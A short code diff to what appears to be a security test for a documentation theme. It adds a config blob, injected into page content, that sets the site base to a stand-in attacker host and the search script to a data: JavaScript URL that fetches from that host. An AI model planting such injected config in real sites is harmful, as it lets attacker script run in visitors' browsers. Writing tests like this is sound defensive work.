@@ -115,7 +115,21 @@ def definition() -> Mapping[str, Any]:
     }
 
 
+#: The theme reads here what to load, and from where.
+CONFIG = json.dumps(
+    {
+        "base": "https://evil.example",
+        "features": ["navigation.instant"],
+        "search": "data:text/javascript,fetch('https://evil.example')",
+        "version": {"provider": "mike"},
+    }
+)
+
 BODY = f"""
+<div id="__config">{CONFIG}</div>
+
+## __config
+
 {PAYLOAD}
 
 ## Heading {PAYLOAD}
